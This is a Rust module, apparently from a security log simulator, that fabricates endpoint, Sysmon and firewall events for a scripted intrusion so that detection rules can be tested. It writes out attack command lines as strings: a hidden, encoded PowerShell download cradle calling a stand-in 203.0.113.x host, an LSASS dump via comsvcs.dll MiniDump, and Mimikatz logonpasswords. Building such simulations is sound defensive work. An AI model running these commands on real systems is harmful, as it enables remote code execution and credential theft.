//! The endpoint story: a user opens a macro document, which launches a
//! hidden, encoded PowerShell download cradle; the downloaded stage dumps
//! LSASS, with comsvcs.dll MiniDump or a renamed Mimikatz.

use rand::Rng;
use vigil_model::{Entity, EntityKind, PersonStatus, Timestamp};

use super::Told;
use crate::activity::acts::{self, Flow, Proc, WinSession};
use crate::activity::desk::encoded_command;
use crate::activity::{Out, secs};
use crate::format::windows;
use crate::rng::{SimRng, pick};
use crate::rules;
use crate::tenant_sim::TenantSim;
use crate::world::HostRole;

const POWERSHELL: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
const WINWORD: &str = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";

/// The hidden download cradle's command line for `url`.
pub fn cradle_command_line(url: &str) -> String {
    let script = format!("IEX (New-Object Net.WebClient).DownloadString('{url}')");
    format!(
        "powershell.exe -nop -w hidden -enc {}",
        encoded_command(&script)
    )
}

/// A user opens a booby-trapped document; see the module docs.
pub fn encoded_download(
    t: &TenantSim,
    rng: &mut SimRng,
    at: Timestamp,
    out: &mut Out,
) -> Option<Told> {
    let victims: Vec<(usize, &str)> = t
        .world
        .hosts
        .iter()
        .enumerate()
        .filter(|(_, h)| h.role == HostRole::Workstation)
        .filter_map(|(i, h)| {
            let owner = h.owner.as_deref()?;
            let person = t
                .world
                .people
                .iter()
                .find(|p| p.username.as_deref() == Some(owner))?;
            (person.status == PersonStatus::Active && !person.admin).then_some((i, owner))
        })
        .collect();
    let (host_index, user) = *pick(rng, &victims)?;
    let host = t.world.hosts.get(host_index)?;
    // The user's session was already open; the local account is an
    // administrator (common on clinical and operations desks).
    let session = WinSession::of_user(t, rng, host_index, user, 2, true)?;
    let c2 = format!("203.0.113.{}", rng.random_range(1..127));
    let url = format!(
        "http://{c2}/{}.ps1",
        pick(rng, &["a", "update", "invoice", "s"])
            .copied()
            .unwrap_or("a")
    );
    let document = format!(
        "C:\\Users\\{user}\\Downloads\\{}_{}.docm",
        pick(
            rng,
            &["Invoice", "Remittance", "Shift_Rota", "Delivery_Note"]
        )
        .copied()
        .unwrap_or("Invoice"),
        rng.random_range(1000..9999)
    );
    let word = acts::start(
        t,
        out,
        rng,
        at,
        &session,
        WINWORD,
        &format!("\"{WINWORD}\" /n \"{document}\" /o \"\""),
        &session.shell,
        "Medium",
    );
    let when = at + secs(rng, 4.0, 20.0);
    let command_line = cradle_command_line(&url);
    let powershell = acts::start(
        t,
        out,
        rng,
        when,
        &session,
        POWERSHELL,
        &command_line,
        &word,
        "Medium",
    );
    let connect = when + secs(rng, 0.5, 3.0);
    acts::sysmon_connect(t, out, rng, connect, &session, &powershell, &c2, 80, None);
    if let Some(fw) = t.edge_firewall(&host.site) {
        let account = format!("{}\\{}", t.world.domain.to_ascii_lowercase(), user);
        let flow = Flow {
            firewall: fw,
            src: &host.ip,
            dst: &c2,
            dpt: 80,
            proto: 6,
            allowed: true,
            from: &host.network,
            to: "wan1",
            policy: "lan-to-internet",
            app: "HTTP",
            user: Some(&account),
        };
        let logged = connect + secs(rng, 0.01, 0.05);
        acts::firewall(t, out, rng, logged, &flow);
    }
    let dump_at = connect + secs(rng, 60.0, 180.0);
    let lsass = 600 + 4 * rng.random_range(0..40);
    let (dumper, rule) = if rng.random_bool(0.5) {
        let cmd = format!(
            "\"C:\\Windows\\System32\\rundll32.exe\" C:\\Windows\\System32\\comsvcs.dll, MiniDump {lsass} C:\\Users\\Public\\lsass.dmp full"
        );
        let dumper = acts::start(
            t,
            out,
            rng,
            dump_at,
            &session,
            "C:\\Windows\\System32\\rundll32.exe",
            &cmd,
            &powershell,
            "High",
        );
        let written = dump_at + secs(rng, 1.0, 4.0);
        out.json(
            written,
            &t.feed("windows"),
            windows::file_create(
                written,
                &session.fqdn,
                &session.user,
                &dumper.image,
                dumper.pid,
                &dumper.guid,
                "C:\\Users\\Public\\lsass.dmp",
            ),
        );
        (dumper, rules::LSASS_DUMP_COMSVCS)
    } else {
        let image = "C:\\Users\\Public\\m64.exe";
        let cmd =
            "C:\\Users\\Public\\m64.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit"
                .to_owned();
        let dumper: Proc = acts::start(
            t,
            out,
            rng,
            dump_at,
            &session,
            image,
            &cmd,
            &powershell,
            "High",
        );
        (dumper, rules::MIMIKATZ_COMMAND_LINE)
    };
    Some(Told {
        site: Some(host.site.clone()),
        description: format!(
            "{user} opened {document} on {}; Word started hidden, encoded PowerShell that downloaded {url}, and the stage dumped LSASS credentials with {}.",
            host.name, dumper.image
        ),
        expected_rules: vec![rules::ENCODED_POWERSHELL_DOWNLOAD, rule],
        entities: vec![
            Entity::new(EntityKind::Host, &host.name),
            Entity::new(EntityKind::User, user),
            Entity::new(EntityKind::Ip, &c2),
            Entity::new(EntityKind::Process, POWERSHELL),
            Entity::new(EntityKind::Process, &dumper.image),
        ],
    })
}
